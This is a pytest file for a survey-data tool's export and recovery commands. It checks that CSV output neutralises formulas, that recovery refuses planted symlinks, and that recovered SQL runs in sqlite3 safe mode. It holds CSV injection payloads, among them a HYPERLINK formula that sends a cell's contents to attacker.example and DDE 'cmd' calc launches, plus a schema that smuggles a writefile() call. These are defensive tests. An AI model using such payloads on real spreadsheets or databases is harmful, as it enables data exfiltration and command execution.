"""What the read side writes, from a stranger's journal: spreadsheets, new journals (issue 27).

- Every CSV the project writes neutralises formulas (OWASP's rule against CSV
  injection): a text cell from the journal that starts with `=`, `+`, `-`, `@`, a
  tab or a carriage return gets a `'` in front; numbers stay numbers.
- `recover -o NEW` and `snapshot DEST` never write through a symlink planted where
  the new file or its `-journal` goes (a dangling one included).
- `recover` feeds the SQL that `sqlite3 .recover` prints (the damaged file's own
  schema text) only to a `sqlite3 -safe`: a schema that ends one statement and
  starts `SELECT writefile(...)` writes nothing.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from cc_daemon.cli.app import main
from tests.hostilekit import run_command
from tests.journalkit import sql, survey_journal
from tests.test_sonde_export import make_journal as sonde_journal

FORMULAS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_neutral_marks_text_that_would_start_a_formula_and_leaves_numbers() -> None:
    from cc_daemon.export.csv import neutral

    for formula in FORMULAS:
        assert neutral(formula) == "'" + formula
    for kept in ("-3.7260579", "+5", "-1e-3", "0.000", "completed", "", "'=already", 17, -3.5):
        assert neutral(kept) == kept
    for text in ("-", "+", "=", "-inf", "-1+1", "- 3"):
        assert neutral(text) == "'" + text


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    """A survey journal and a sonde journal with formulas in every kind of text cell."""
    db = tmp_path / "survey.db"
    survey_journal(db, casts=3)
    a, b, c, d, e, f = (f.replace("'", "''") for f in FORMULAS)
    sql(
        db,
        f"UPDATE events SET kind = '{a}' WHERE id = 1",
        f"UPDATE samples SET phase = '{b}' WHERE id % 5 = 0",
        f"UPDATE fixes SET frame = '{d}' WHERE id % 3 = 0",
        f"UPDATE fixes SET ap_time_order = '{c}' WHERE id % 7 = 0",
        "UPDATE casts SET winch_backend = 'gpio' || char(13, 10) || '=1+1'",
        "INSERT INTO sonar_readings (session_id, mono_s, wall_s, clock_synced, port,"
        f" distance_mm, confidence_pct) VALUES (1, 1000, 1717228800, 0, '{e}', 1500, 90),"
        f" (1, 1001, 1717228801, 0, '{f}', 1600, 91)",
    )
    sonde = tmp_path / "sonde.db"
    sonde_journal(sonde)
    with contextlib.closing(sqlite3.connect(sonde, isolation_level=None)) as conn:
        detail = json.loads(
            conn.execute("SELECT detail_json FROM events WHERE kind = 'sonde_started'").fetchone()[
                0
            ]
        )
        detail["parameters"][1]["name"] = FORMULAS[0]
        conn.execute(
            "UPDATE events SET detail_json = ? WHERE kind = 'sonde_started'", (json.dumps(detail),)
        )
        conn.execute("UPDATE sonde_samples SET status = ?, error = ?", (FORMULAS[3], FORMULAS[1]))
    return db, sonde


def test_every_csv_neutralises_the_journals_formulas_and_keeps_numbers(
    hostile: tuple[Path, Path],
) -> None:
    db, sonde = hostile
    files = {
        what: cli("export", "--db", str(db), "--format", "csv", "--what", what)[1]
        for what in ("samples", "telemetry", "events", "sonar")
    }
    files["sonde"] = cli("sonde", "export", "--format", "csv", "--db", str(sonde))[1]
    neutralised = 0
    for what, text in files.items():
        assert text, what
        rows = list(csv.reader(io.StringIO(text, newline="")))
        for row in rows[1:] if what != "samples" else rows[2:]:
            for cell in row:
                assert not cell.startswith(FORMULA_START) or is_number(cell), (what, cell)
                neutralised += cell.startswith("'") and cell[1:] in FORMULAS
    assert neutralised >= 6 + 2 * 15  # each kind of cell, the sonde's every reading twice
    samples = list(csv.DictReader(io.StringIO(files["samples"].split("\r\n", 1)[1])))
    assert samples[0]["lon"] == "-3.7207457"  # a negative number stays a number
    assert {s["phase"] for s in samples} >= {"'" + FORMULAS[1]}
    assert files["samples"].startswith("# winch_backend: gpio  =1+1; simulated: unknown\r\n")
    header = next(csv.reader(io.StringIO(files["sonde"])))
    assert any(cell.startswith("'" + FORMULAS[0]) for cell in header), header


def test_recover_never_writes_through_a_planted_symlink(tmp_path: Path) -> None:
    db = tmp_path / "survey.db"
    survey_journal(db, casts=2)
    target = tmp_path / "elsewhere" / "target.db"
    target.parent.mkdir()
    for planted in ("new.db", "new.db-journal"):
        link = tmp_path / planted
        os.symlink(target, link)  # dangling: nothing is there yet
        code, _, stderr = cli("recover", "--db", str(db), "-o", str(tmp_path / "new.db"))
        assert code == 2, stderr
        assert f"cc-daemon recover: {link} exists: refusing to overwrite it" in stderr
        assert not target.exists()
        link.unlink()
    code, _, _ = cli("recover", "--db", str(db), "-o", str(tmp_path / "new.db"))
    assert code == 0


def test_snapshot_never_writes_through_a_symlink_where_its_journal_goes(tmp_path: Path) -> None:
    db = tmp_path / "survey.db"
    survey_journal(db, casts=2)
    target = tmp_path / "target"
    os.symlink(target, tmp_path / "copy.db-journal")
    code, _, stderr = cli("snapshot", str(tmp_path / "copy.db"), "--db", str(db))
    assert code == 2, stderr
    assert "copy.db-journal exists: refusing to overwrite it" in stderr
    assert not target.exists()
    assert not (tmp_path / "copy.db").exists()


REAL_SQLITE3 = shutil.which("sqlite3")


def has_safe(cli: str) -> bool:
    done = subprocess.run(
        [cli, "-safe", ":memory:", "SELECT 1"], capture_output=True, check=False, timeout=30
    )
    return done.returncode == 0


@pytest.mark.skipif(
    REAL_SQLITE3 is None or not has_safe(REAL_SQLITE3),
    reason="needs a sqlite3 program with -safe (Debian's sqlite3 package: apt install sqlite3)",
)
def test_the_shell_that_loads_recover_sql_runs_in_safe_mode(tmp_path: Path) -> None:
    # Debian's sqlite3 has no sqlite_dbpage, so its .recover fails; this stands in for
    # one that has it: its `.recover` prints what such a shell prints for a file whose
    # schema text ends one statement and starts another. Everything else it hands to
    # the real sqlite3, which loads that SQL.
    assert REAL_SQLITE3 is not None
    pwned = tmp_path / "pwned"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    dump = (
        "BEGIN;\n"
        "CREATE TABLE fixes(id INTEGER PRIMARY KEY, mono_s REAL);"
        f" SELECT writefile('{pwned}', 'owned');\n"
        "COMMIT;\n"
    )
    fake = bin_dir / "sqlite3"
    fake.write_text(
        f"#!{sys.executable}\n"
        "import os, sys\n"
        "if sys.argv[-1] == '.recover':\n"
        f"    sys.stdout.write({dump!r})\n"
        "    sys.exit(0)\n"
        f"os.execv({REAL_SQLITE3!r}, [{REAL_SQLITE3!r}, *sys.argv[1:]])\n"
    )
    fake.chmod(0o755)
    db = tmp_path / "survey.db"
    survey_journal(db, casts=2)
    answer = run_command(
        "recover",
        "--db",
        str(db),
        "-o",
        str(tmp_path / "new.db"),
        env={"PATH": f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}"},
    )
    assert not pwned.exists(), "the loading sqlite3 ran writefile()"
    assert "writefile() function in safe mode" in answer.stdout  # why .recover was not used
    assert answer.code == 0, answer.stderr  # every row saved row by row instead
